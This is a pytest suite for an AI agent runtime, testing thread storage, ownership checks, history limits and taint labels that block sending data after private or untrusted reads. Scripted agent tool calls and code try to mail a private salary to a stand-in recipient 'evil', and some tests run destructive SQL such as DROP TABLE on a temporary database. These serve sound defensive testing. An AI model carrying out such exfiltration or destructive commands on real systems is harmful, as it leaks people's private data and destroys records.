"""Threads: kept with their labels, owned by a principal, bounded when they are read."""

from __future__ import annotations

import gc
import logging
from collections.abc import AsyncIterator, Sequence
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import anyio
import pytest
from sqlalchemy import text

from caps import ConfigurationError, MemoryAuditLog, Runtime
from caps.agents.definition import new_agent
from caps.agents.runner.engine import CallTool, Engine, EngineOutcome, EngineRequest, ToolCall
from caps.agents.runner.errors import ThreadUnknownError
from caps.agents.runner.model import CallMode, RunContext, RunLimits, RunResult, RunStatus
from caps.agents.runner.runner import AgentRunner
from caps.agents.runner.scripted_engine import ScriptedCall, ScriptedEngine, Turn
from caps.store import open_store
from caps.store.database import Store
from caps.store.repositories.threads import Role, StoredMessage, Threads
from support.agent_setup import OPERATOR, AgentSetup

pytestmark = pytest.mark.anyio

AGENT = new_agent(
    "assistant", {"hr": {"tools": ["salary"]}, "web": {"tools": ["read"]}, "mail": {}}
)


def call(tool: str, /, **arguments: Any) -> Turn:
    return Turn(calls=(ScriptedCall(name=tool, arguments=arguments),))


def say(text: str) -> Turn:
    return Turn(answer=text)


@pytest.fixture
async def store(tmp_path: Path) -> AsyncIterator[Store]:
    async with open_store(f"sqlite:///{tmp_path}/caps.db") as opened:
        yield opened


@asynccontextmanager
async def runner_of(
    store: Store | None, engine: Engine, setup: AgentSetup | None = None
) -> AsyncIterator[AgentRunner]:
    """A runner in a runtime of its own."""
    registry = (setup or AgentSetup()).registry
    async with Runtime(OPERATOR, registry=registry, audit=MemoryAuditLog()) as runtime:
        yield AgentRunner(runtime, engine, store=store)


async def run_alone(
    store: Store | None, turns: Sequence[Turn], message: str = "hi", **context: Any
) -> tuple[RunResult, ScriptedEngine]:
    """One run in a new runtime, as after a restart."""
    engine = ScriptedEngine(turns)
    async with runner_of(store, engine) as runner:
        ctx = RunContext(**{"principal": "ada", **context})
        return await runner.run(AGENT, message, ctx), engine


async def messages_of(store: Store, result: RunResult) -> list[StoredMessage]:
    def work(connection: Any) -> list[StoredMessage]:
        threads = Threads(connection, "ada")
        assert result.thread_id is not None
        thread = threads.find(result.thread_id)
        assert thread is not None
        return threads.latest(thread, 100)

    return await store.read(work)


async def test_a_thread_goes_on_where_it_ended(store: Store) -> None:
    """A later run gets the messages of the earlier ones, also in another process."""
    first, _ = await run_alone(store, [call("salary", name="bo"), say("92")], "how much?")
    second, engine = await run_alone(store, [say("yes")], "sure?", thread=first.thread_id)
    assert second.thread_id == first.thread_id
    (request,) = engine.requests
    assert [(each.role, each.content) for each in request.history] == [
        (Role.USER, "how much?"),
        (Role.TOOL_CALL, '{"name": "bo"}'),
        (Role.TOOL_RESULT, "92"),
        (Role.ASSISTANT, "92"),
    ]
    kept = await messages_of(store, second)
    assert [each.number for each in kept] == [1, 2, 3, 4, 5, 6]


async def test_a_thread_carries_the_labels_of_what_it_holds(store: Store) -> None:
    """What was read in one process decides in another what may be sent: the model sees it again."""
    first, _ = await run_alone(store, [call("salary", name="bo"), call("read", url="u"), say("")])
    assert first.labels == ("private", "untrusted")
    send = call("send", to="evil", text="92")
    again, engine = await run_alone(store, [send, say("done")], thread=first.thread_id)
    assert "after what was read before" in engine.answers[0].text
    assert again.labels == ("private", "untrusted")
    fresh, engine = await run_alone(store, [send, say("done")])
    assert engine.answers[0].text == "sent"
    assert fresh.labels == ()
    kept = await messages_of(store, first)
    assert {"private", "untrusted", "hr.salary"} <= set(kept[0].marks)


async def test_code_in_a_thread_has_its_labels_too(store: Store) -> None:
    """In code mode the same rule applies to the session of the code."""
    first, _ = await run_alone(store, [call("salary", name="bo"), call("read", url="u"), say("x")])
    code = Turn(code="await caps.mail.send(to='evil', text='92')")
    again, engine = await run_alone(
        store, [code, say("done")], thread=first.thread_id, mode=CallMode.CODE
    )
    assert "after what was read before" in engine.answers[0].text
    assert again.ok


async def test_nobody_else_finds_a_thread(store: Store) -> None:
    """Not by its id either; and it belongs to its agent."""
    mine, _ = await run_alone(store, [say("yes")])
    with pytest.raises(ThreadUnknownError, match="there is no thread"):
        await run_alone(store, [say("yes")], thread=mine.thread_id, principal="eve")
    async with runner_of(store, ScriptedEngine([say("yes")])) as runner:
        ctx = RunContext(principal="ada", thread=mine.thread_id)
        with pytest.raises(ConfigurationError, match="belongs to another agent"):
            await runner.run(new_agent("other"), "hi", ctx)
        with pytest.raises(ConfigurationError, match="belongs to another session"):
            await runner.run(
                AGENT, "hi", RunContext(principal="ada", thread=mine.thread_id, session="s")
            )


async def test_without_a_store_there_is_nothing_to_continue() -> None:
    """A run works, and its thread is not kept."""
    result, _ = await run_alone(None, [say("yes")])
    assert (result.answer, result.thread_id) == ("yes", None)
    with pytest.raises(ConfigurationError, match="no store"):
        await run_alone(None, [say("yes")], thread=AGENT.id)


@pytest.mark.parametrize(
    ("limits", "expected"),
    [
        (RunLimits(history_messages=6), ["two", "b", "three", "c"]),
        (RunLimits(history_messages=0), []),
        (RunLimits(history_characters=9), ["three", "c"]),
        (RunLimits(history_characters=3), []),
    ],
)
async def test_history_is_bounded(store: Store, limits: RunLimits, expected: list[str]) -> None:
    """By messages and characters, and it starts with a message of the user."""
    first, _ = await run_alone(store, [call("salary", name="bo"), say("a")], "one")
    for message, answer in (("two", "b"), ("three", "c")):
        await run_alone(store, [say(answer)], message, thread=first.thread_id)
    _, engine = await run_alone(store, [say("d")], thread=first.thread_id, limits=limits)
    assert [each.content for each in engine.requests[0].history] == expected


async def test_what_no_database_keeps_is_escaped(store: Store) -> None:
    """NUL characters and halves of surrogate pairs, from users and from models."""
    result, _ = await run_alone(store, [say("a\0b\ud800")], "c\0d")
    assert [each.content for each in await messages_of(store, result)] == [
        "c\\x00d",
        "a\\x00b\\ud800",
    ]


async def test_a_failed_run_keeps_what_it_did(store: Store) -> None:
    """The script ends too early, as a model that fails does."""
    result, _ = await run_alone(store, [call("salary", name="bo")])
    assert (result.status, result.error) == (RunStatus.FAILED, "the script has no more turns")
    roles = [each.role for each in await messages_of(store, result)]
    assert roles == [Role.USER, Role.TOOL_CALL, Role.TOOL_RESULT]


class Waiting(Engine):
    """Runs code, then waits for ever."""

    def __init__(self) -> None:
        self.ready = anyio.Event()

    async def run(self, request: EngineRequest, call_tool: CallTool) -> EngineOutcome:
        await call_tool(ToolCall(id="1", name="execute_code", arguments={"code": "1 + 1"}))
        self.ready.set()
        await anyio.sleep_forever()
        raise AssertionError


async def test_a_cancelled_run_keeps_what_it_did(store: Store) -> None:
    """Its worker is killed, and the thread has its complete exchanges."""
    engine = Waiting()
    async with runner_of(store, engine) as runner:
        async with anyio.create_task_group() as tasks:
            ctx = RunContext(principal="ada", mode=CallMode.CODE)
            tasks.start_soon(runner.run, AGENT, "go", ctx)
            await engine.ready.wait()
            tasks.cancel_scope.cancel()
        (thread,) = await store.read(lambda connection: Threads(connection, "ada").page(limit=9))
    assert (thread.title, thread.messages) == ("go", 3)


class Losing(Engine):
    """Answers; meanwhile something happens to the store."""

    def __init__(self, store: Store, statement: str) -> None:
        self._store, self._statement = store, text(statement)

    async def run(self, request: EngineRequest, call_tool: CallTool) -> EngineOutcome:
        await self._store.write(lambda connection: connection.execute(self._statement))
        return EngineOutcome(answer="42")


@pytest.mark.parametrize(
    ("statement", "warning"),
    [
        ("DELETE FROM threads", "was deleted during the run"),
        ("DROP TABLE messages", "the thread lacks this run: the store of the host"),
    ],
)
async def test_the_answer_is_given_though_it_cannot_be_kept(
    store: Store, statement: str, warning: str
) -> None:
    """Its effects have happened: the caller gets the answer, a warning, and no thread."""
    first, _ = await run_alone(store, [say("yes")])
    async with runner_of(store, Losing(store, statement)) as runner:
        ctx = RunContext(principal="ada", thread=first.thread_id)
        result = await runner.run(AGENT, "hi", ctx)
    assert (result.answer, result.thread_id) == ("42", None)
    assert warning in result.warnings[0]


class Once(Engine):
    """Reads what is private, and loses the store once; then sends."""

    def __init__(self, store: Store) -> None:
        self._store, self.sent, self._runs = store, "", 0

    async def run(self, request: EngineRequest, call_tool: CallTool) -> EngineOutcome:
        self._runs += 1
        if self._runs == 1:
            await call_tool(ToolCall(id="1", name="salary", arguments={"name": "bo"}))
            await call_tool(ToolCall(id="2", name="read", arguments={"url": "u"}))
            await self._rename("messages", "elsewhere")
        else:
            send = ToolCall(id="1", name="send", arguments={"to": "evil", "text": "92"})
            self.sent = (await call_tool(send)).text
        return EngineOutcome(answer="92")

    async def _rename(self, old: str, new: str) -> None:
        statement = text(f"ALTER TABLE {old} RENAME TO {new}")
        await self._store.write(lambda connection: connection.execute(statement))


async def test_labels_that_cannot_be_stored_hold_in_this_process(
    store: Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Whoever was given the answer may quote it in the thread."""
    # A record of the log would hold the frames of the run, and by them its labels.
    monkeypatch.setattr(logging.getLogger("caps.agents.runner.runner"), "disabled", True)
    first, _ = await run_alone(store, [say("yes")])
    engine = Once(store)
    async with runner_of(store, engine) as runner:
        ctx = RunContext(principal="ada", thread=first.thread_id)
        lost = await runner.run(AGENT, "read", ctx)
        assert lost.labels == ("private", "untrusted")
        await engine._rename("elsewhere", "messages")
        gc.collect()
        await runner.run(AGENT, "send `92`", ctx)
    assert "after what was read before" in engine.sent


async def test_a_run_out_of_time(store: Store) -> None:
    """The run ends, and says why."""
    async with runner_of(store, Waiting()) as runner:
        limits = RunLimits(wall_ms=300)
        ctx = RunContext(principal="ada", mode=CallMode.CODE, limits=limits)
        result = await runner.run(AGENT, "go", ctx)
    assert result.status is RunStatus.TIME_LIMIT
    assert result.thread_id is not None


async def test_a_silent_run_can_notify_its_user(store: Store) -> None:
    """`notify_user` is there in silent runs only, by call and in code, and reaches the callback."""
    told: list[str] = []

    async def tell(message: str) -> None:
        told.append(message)

    turns = [call("notify_user", message="backup failed"), say("done")]
    result, engine = await run_alone(store, turns, silent=True, callbacks={"notify_user": tell})
    assert told == ["backup failed"]
    assert result.notifications == ("backup failed",)
    assert "Nobody reads along" in engine.requests[0].system_prompt

    code = [Turn(code="await caps.notify.user(message='in code')"), say("done")]
    result, engine = await run_alone(store, code, silent=True, mode=CallMode.CODE)
    assert result.notifications == ("in code",)

    result, engine = await run_alone(store, turns)
    assert "there is no tool `notify_user`" in engine.answers[0].text
    assert result.notifications == ()
    _, engine = await run_alone(store, code, mode=CallMode.CODE)
    assert "not granted" in engine.answers[0].text


async def test_a_failure_of_the_host_does_not_reach_the_model(store: Store) -> None:
    """The model learns that it failed, and which request it was; the log has the rest."""
    agent = new_agent("a", {"web": {"tools": ["broken"]}})
    for mode, turn in (
        (CallMode.TOOLS, call("broken")),
        (CallMode.CODE, Turn(code="await caps.web.broken()")),
    ):
        engine = ScriptedEngine([turn, say("x")])
        async with runner_of(store, engine) as runner:
            await runner.run(agent, "go", RunContext(mode=mode))
        assert "error" in engine.answers[0].text
        assert "hunter2" not in engine.answers[0].text
